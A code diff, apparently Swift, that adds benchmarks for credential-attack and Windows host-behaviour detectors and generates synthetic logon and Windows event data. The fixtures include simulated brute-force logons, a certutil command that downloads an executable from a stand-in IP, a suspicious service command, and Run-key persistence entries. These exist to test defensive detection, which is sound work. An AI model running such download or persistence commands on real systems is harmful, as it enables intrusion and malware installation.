@@ -51,7 +51,13 @@ public enum DetectorsBenchmarks {
         throughput("Privileged-sequence detector", pool: processPool(), step: 50, detail: "command lines of 2,000 users, tokenised") {
             PrivilegedSequenceDetector()
         }
-        throughput("All four detectors (Replay order)", pool: mixedPool(), step: 2, detail: "mixed stream") {
+        throughput("Credential-attack detector", pool: authPool(), step: 20, detail: "logons from 20,000 sources, 30 % failed, 200 brute-forcing") {
+            CredentialAttackDetector()
+        }
+        throughput("Host-behaviour detector", pool: windowsPool(), step: 20, detail: "Windows process, service, task, registry and share events of 5,000 hosts") {
+            HostBehaviourDetector()
+        }
+        throughput("All default detectors (Replay order)", pool: mixedPool(), step: 2, detail: "mixed stream") {
             SuiteDetector()
         }
 
@@ -60,7 +66,50 @@ public enum DetectorsBenchmarks {
         return results
     }
 
-    /// The four detectors as one, to time the suite.
+    /// Logons: most sources succeed now and then; 200 sources fail all the time against root or against many names.
+    static func authPool() -> [Event] {
+        var random = SeededRandom(seed: 7)
+        return (0..<65_536).map { i in
+            let attacker = i % 50 == 0
+            let source = attacker ? "203.0.113.\(i % 200)" : "10.\(i % 20 / 256 % 256).\(Int(random.nextUnit() * 20_000) % 256).\(i % 250)"
+            let failed = attacker || random.nextUnit() < 0.3
+            let user = attacker && i % 100 == 0 ? "user\(Int(random.nextUnit() * 5_000))" : attacker ? "root" : "user\(Int(random.nextUnit() * 5_000))"
+            return Event(id: "a\(i)", time: 0, kind: .authentication, user: user, sourceIP: source, outcome: failed ? .failure : .success)
+        }
+    }
+
+    /// Windows events of the kinds the host-behaviour catalog reads, most of them ordinary.
+    static func windowsPool() -> [Event] {
+        var random = SeededRandom(seed: 9)
+        let commands = ["C:\\Windows\\System32\\svchost.exe -k netsvcs", "\"C:\\Program Files\\Office\\WINWORD.EXE\" /n report.docx",
+                        "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", "certutil -urlcache -split -f http://198.51.100.7/x.exe x.exe",
+                        "cmd.exe /c dir C:\\Users", "schtasks /create /tn backup /tr C:\\tools\\b.exe /sc daily"]
+        return (0..<65_536).map { i in
+            let host = "WS-\(Int(random.nextUnit() * 5_000))"
+            switch i % 8 {
+            case 0:
+                var e = Event(id: "w\(i)", time: 0, kind: .other, eventCode: "7045", user: "LocalSystem", device: host)
+                e.properties = ["Service Name": "svc\(i % 40)", "Service File Name": i % 97 == 0 ? "cmd.exe /c C:\\Users\\Public\\a.exe" : "C:\\Program Files\\Vendor\\agent\(i % 40).exe"]
+                return e
+            case 1:
+                var e = Event(id: "w\(i)", time: 0, kind: .other, name: "Sysmon: RegistryEvent (Value Set)", eventCode: "13", device: host)
+                e.properties = ["Registry Key": i % 3 == 0 ? "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\agent" : "HKLM\\Software\\Vendor\\Setting\(i % 50)",
+                                "Process Path": "C:\\Program Files\\Vendor\\agent.exe"]
+                return e
+            case 2:
+                var e = Event(id: "w\(i)", time: 0, kind: .shareAccess, eventCode: "5145", user: "user\(i % 3_000)", device: "FILESRV\(i % 20)")
+                e.properties = ["Share Name": i % 5 == 0 ? "\\\\*\\IPC$" : "\\\\*\\Projects", "Relative Target Name": i % 5 == 0 ? "srvsvc" : "plan\(i % 100).xlsx"]
+                return e
+            default:
+                var e = Event(id: "w\(i)", time: 0, kind: .process, eventCode: "4688", user: "user\(i % 3_000)", device: host,
+                              command: commands[Int(random.nextUnit() * Double(commands.count)) % commands.count])
+                e.properties = ["Parent Process Path": "C:\\Windows\\explorer.exe", "Process Path": "C:\\Windows\\System32\\cmd.exe"]
+                return e
+            }
+        }
+    }
+
+    /// The default detectors as one, to time the suite.
     struct SuiteDetector: Detector {
         let id = "suite"
         var detectors: [any Detector] = DetectionEngine.defaultDetectors()
